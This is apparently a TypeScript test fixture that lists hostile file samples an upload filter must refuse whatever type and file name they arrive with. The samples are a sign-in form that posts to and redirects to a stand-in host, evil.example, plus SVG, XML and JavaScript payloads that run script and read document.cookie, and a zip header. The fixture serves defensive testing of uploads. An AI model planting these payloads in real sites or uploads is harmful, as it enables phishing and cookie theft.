/**
 * Files that must never be stored as what they say (docs/security.md, "Files"): each is
 * refused by the byte check at every way into storage (an upload, a bundle), whatever type
 * and name it is sent with.
 */
export const HOSTILE_FILES: Array<{ name: string; bytes: Buffer; type: string; fileName: string }> = [
  {
    name: 'an HTML page',
    bytes: Buffer.from(
      '<!doctype html><form action="https://evil.example/">Sign in</form><meta http-equiv="refresh" content="0;url=https://evil.example">',
    ),
    type: 'text/html',
    fileName: 'logo.html',
  },
  {
    name: 'an SVG with a script',
    bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    type: 'image/svg+xml',
    fileName: 'logo.svg',
  },
  {
    name: 'an XML document',
    bytes: Buffer.from('<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>'),
    type: 'application/xml',
    fileName: 'logo.xml',
  },
  {
    name: 'a script',
    bytes: Buffer.from('alert(document.cookie)'),
    type: 'application/javascript',
    fileName: 'logo.js',
  },
  {
    name: 'a zip archive',
    bytes: Buffer.from('504b030414000000000000000000000000000000000000000000', 'hex'),
    type: 'application/zip',
    fileName: 'logo.zip',
  },
];

/** The types each hostile file is also sent as: its own, an image's, and none in particular. */
export const CLAIMED_TYPES = (own: string) => [own, 'image/png', 'application/octet-stream'];
